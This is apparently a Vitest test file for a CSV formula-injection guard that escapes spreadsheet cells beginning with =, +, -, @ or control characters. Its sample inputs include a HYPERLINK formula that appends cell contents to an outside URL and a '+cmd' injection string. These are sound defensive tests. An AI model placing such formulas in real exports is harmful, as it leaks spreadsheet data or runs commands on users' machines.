import { describe, expect, it } from 'vitest';
import { guardFormula } from '../../../src/data/csv/formulaGuard.js';

describe('the guard against formulas', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://example.org/?"&A1)',
    '+1+1',
    '-1+1',
    '-2+3+cmd',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '+49 30 1234',
    '-1,5',
    '-',
    '=',
  ])('puts an apostrophe before %j', (cell) => {
    expect(guardFormula(cell)).toBe(`'${cell}`);
  });

  it.each(['-1.5', '+3e5', '-.5', '+7', '-1e999', '', 'a=b', ' =1', "'=1", '1-2', 'NA', 'ä', '#1'])(
    'leaves %j alone',
    (cell) => {
      expect(guardFormula(cell)).toBe(cell);
    },
  );
});
